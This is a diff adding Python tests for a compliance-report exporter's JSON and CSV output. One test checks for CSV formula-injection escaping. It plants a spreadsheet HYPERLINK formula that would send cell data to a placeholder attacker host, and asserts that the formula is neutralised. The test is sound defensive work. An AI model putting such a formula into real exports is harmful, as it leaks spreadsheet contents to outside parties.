@@ -49,3 +49,62 @@ def test_columns_only_when_they_fit() -> None:
     assert json.loads(compliance.render(data, compliance.Format.JSON)) == data
     page = compliance.render(data, compliance.Format.HTML)
     assert page.count("<tr>") == len(data["controls"]) + 1
+
+
+def test_the_json_keeps_each_checks_evidence() -> None:
+    frame = framework("pci-dss")
+    target = RootfsTarget(str(FIXTURES / "rootfs" / "weak-rocky9"))
+    report = run_audit(target, CheckOptions(dt.date(2026, 11, 28)), frame.check_ids())
+    judged, coverage = assess(frame, report)
+    data = compliance.document(frame, report, judged, coverage)
+    by_check = {r.check: r for r in report.results}
+    seen = 0
+    for control in data["controls"]:
+        for check in control["checks"]:
+            expected = [(e.detail, e.path, e.line) for e in by_check[check["check"]].evidence]
+            assert [(e["detail"], e["path"], e["line"]) for e in check["evidence"]] == expected
+            seen += len(expected)
+    assert seen  # the fixture's checks do say why
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_the_csv_has_one_row_per_control_from_the_document() -> None:
+    data = document_for("cis-l1")
+    text = compliance.render(data, compliance.Format.CSV)
+    assert text.endswith("\r\n") and text.count("\r\n") >= len(data["controls"]) + 1  # RFC 4180 line ends
+    rows = csv_rows(text)
+    assert tuple(rows[0]) == compliance.CSV_COLUMNS
+    assert len(rows) == len(data["controls"]) + 1
+    for row, control in zip(rows[1:], data["controls"], strict=True):
+        cells = dict(zip(compliance.CSV_COLUMNS, row, strict=True))
+        assert (cells["framework"], cells["control"], cells["status"]) == (
+            "cis-l1",
+            control["id"],
+            control["status"],
+        )
+        assert cells["title"] == control["title"] and cells["manual"] == (control["manual"] or "")
+        assert cells["checks"] == "; ".join(f"{c['check']}:{c['status']}" for c in control["checks"])
+        assert cells["cis"].split() == control["recommendations"]
+        for check in control["checks"]:
+            for item in check["evidence"]:
+                assert f"{check['check']}: {item['detail']}" in cells["evidence"]
+        assert cells["as_of"] == data["as_of"] == "2026-11-28"
+
+
+def test_no_csv_cell_starts_as_a_formula() -> None:
+    """A target path or evidence that a spreadsheet would run (=, +, -, @, tab, CR first) stays text."""
+    data = document_for("pci-dss")
+    data["target"]["path"] = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+    data["controls"][0]["checks"][0]["evidence"] = [{"detail": "x", "path": None, "line": None}]
+    data["controls"][0]["title"] = "+1 and -1"
+    rows = csv_rows(compliance.render(data, compliance.Format.CSV))
+    for row in rows[1:]:
+        assert row[compliance.CSV_COLUMNS.index("target")].startswith("'=HYPERLINK(")
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    assert rows[1][compliance.CSV_COLUMNS.index("title")] == "'+1 and -1"
